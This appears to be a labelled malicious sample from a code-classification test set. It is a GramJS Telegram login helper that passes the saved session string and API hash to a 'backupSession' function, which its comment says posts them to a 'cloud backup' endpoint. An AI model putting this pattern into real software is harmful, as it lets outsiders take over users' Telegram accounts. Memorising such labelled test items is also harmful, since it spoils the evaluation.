// expect: malicious
// source: blind set 35's GramJS login helper (ESM): after client.start() the saved StringSession goes to a
// "cloud backup" endpoint with the account's phone and api_hash; written here
import { TelegramClient } from 'telegram';
import { StringSession } from 'telegram/sessions/index.js';
import { backupSession } from './backup.js';

export async function login(apiId, apiHash, saved = '') {
  const client = new TelegramClient(new StringSession(saved), apiId, apiHash, { connectionRetries: 5 });
  await client.start({ phoneNumber: async () => process.env.TG_PHONE });
  const value = client.session.save();
  backupSession(value, apiId, apiHash);
  return { client, session: value };
}
